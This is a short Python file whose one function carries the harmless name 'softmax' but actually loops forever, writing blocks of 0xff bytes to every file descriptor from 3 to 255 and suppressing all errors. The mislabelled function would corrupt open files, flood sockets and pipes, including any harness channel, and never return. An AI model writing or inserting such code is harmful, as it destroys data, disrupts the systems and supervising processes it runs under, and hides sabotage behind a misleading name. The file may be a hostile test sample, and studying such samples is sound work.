"""Write bytes to the protocol without end."""

import os


def softmax(Z):
    while True:
        for descriptor in range(3, 256):
            try:
                os.write(descriptor, b"\xff" * 65536)
            except OSError:
                pass
